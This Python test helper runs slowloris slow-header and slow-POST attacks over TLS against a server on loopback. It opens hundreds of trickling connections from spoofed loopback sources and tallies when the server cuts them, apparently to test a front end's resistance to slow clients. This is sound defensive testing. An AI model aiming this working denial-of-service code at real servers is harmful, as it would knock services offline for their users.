"""Slow clients (slowloris and slow POST bodies) against a server on loopback.

Used by tests/test_front.py. Each attacker is an asyncio task that keeps one
TLS connection open by sending a request a few bytes at a time, reconnects when
the server cuts it off, and notes how long each connection lived. Attack
traffic comes from source addresses 127.0.0.2 and up (all of 127.0.0.0/8 is
loopback), so that the probing client on 127.0.0.1 is a different client, as
the patients of a real clinic are.
"""

import asyncio
import contextlib
import ssl
import time
from dataclasses import dataclass, field

SLOW_HEADER_START = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nUser-Agent: slowloris\r\n"
SLOW_BODY_HEAD = (
    b"POST /accounts/sign-in/ HTTP/1.1\r\nHost: localhost\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n"
)


@dataclass
class Tally:
    """What one kind of attacker saw."""

    opened: int = 0  # connections that completed the TLS handshake
    refused: int = 0  # connection attempts that failed outright
    answered: list[bytes] = field(default_factory=list)  # first bytes the server sent, if any
    cut_after: list[float] = field(default_factory=list)  # lifetimes of connections the server cut
    open_at_end: int = 0  # connections still open when the attack stopped
    cut_after_silence: list[float] = field(default_factory=list)  # silence -> cut, at the end
    never_cut: int = 0  # still open `linger` seconds after the attacker went silent


async def _connect(host: str, port: int, source: str, context: ssl.SSLContext):
    return await asyncio.wait_for(
        asyncio.open_connection(
            host, port, ssl=context, server_hostname="localhost", local_addr=(source, 0)
        ),
        timeout=10,
    )


async def _closed_within(reader: asyncio.StreamReader, seconds: float) -> bytes | None:
    """The server's bytes (b"" for a plain close) if it closed or answered within `seconds`."""
    try:
        data = await asyncio.wait_for(reader.read(200), timeout=seconds)
    except TimeoutError:
        return None
    except (ConnectionError, ssl.SSLError):
        return b""
    return data


async def _attacker(
    *,
    kind: str,
    host: str,
    port: int,
    source: str,
    context: ssl.SSLContext,
    until: float,
    interval: float,
    linger: float,
    tally: Tally,
) -> None:
    """One slow client: trickle a byte-sized piece every `interval` seconds until `until`.

    Then go silent and wait up to `linger` seconds for the server to cut the connection.
    """
    first = SLOW_HEADER_START if kind == "header" else SLOW_BODY_HEAD
    piece = 0
    while time.monotonic() < until:
        try:
            reader, writer = await _connect(host, port, source, context)
        except (OSError, TimeoutError, ssl.SSLError):
            tally.refused += 1
            await asyncio.sleep(interval)
            continue
        tally.opened += 1
        opened = time.monotonic()
        try:
            writer.write(first)
            await writer.drain()
            cut = False
            while (left := until - time.monotonic()) > 0:
                data = await _closed_within(reader, min(interval, left))
                if data is not None:
                    if data:
                        tally.answered.append(data[:40])
                    tally.cut_after.append(time.monotonic() - opened)
                    cut = True
                    break
                piece += 1
                writer.write(b"X-Padding-%d: 1\r\n" % piece if kind == "header" else b"a")
                await writer.drain()
            if cut:
                continue  # the server cut it off: reconnect, as a real slowloris does
            # The attack is over with this connection still open: fall silent, time the cut.
            tally.open_at_end += 1
            silent = time.monotonic()
            data = await _closed_within(reader, linger)
            if data is None:
                tally.never_cut += 1
            else:
                tally.cut_after_silence.append(time.monotonic() - silent)
            return
        except (ConnectionError, ssl.SSLError):
            tally.cut_after.append(time.monotonic() - opened)
        finally:
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()


async def _attack(
    *,
    host: str,
    port: int,
    context: ssl.SSLContext,
    per_kind: int,
    sources: list[str],
    duration: float,
    interval: float,
    linger: float,
) -> dict[str, Tally]:
    tallies = {"header": Tally(), "body": Tally()}
    until = time.monotonic() + duration
    tasks = []
    for kind, tally in tallies.items():
        for n in range(per_kind):
            tasks.append(
                _attacker(
                    kind=kind,
                    host=host,
                    port=port,
                    source=sources[n % len(sources)],
                    context=context,
                    until=until,
                    interval=interval,
                    linger=linger,
                    tally=tally,
                )
            )
    await asyncio.gather(*tasks)
    return tallies


def attack(
    *,
    port: int,
    cafile: str,
    per_kind: int = 250,
    sources: int = 10,
    duration: float = 30,
    interval: float = 3,
    linger: float = 20,
    host: str = "127.0.0.1",
) -> dict[str, Tally]:
    """Hold `per_kind` slow-header and `per_kind` slow-body connections for `duration` s.

    Blocking; run it in a thread while the caller probes the server. Returns a Tally per kind.
    """
    context = ssl.create_default_context(cafile=cafile)
    addresses = [f"127.0.0.{2 + n}" for n in range(sources)]
    return asyncio.run(
        _attack(
            host=host,
            port=port,
            context=context,
            per_kind=per_kind,
            sources=addresses,
            duration=duration,
            interval=interval,
            linger=linger,
        )
    )
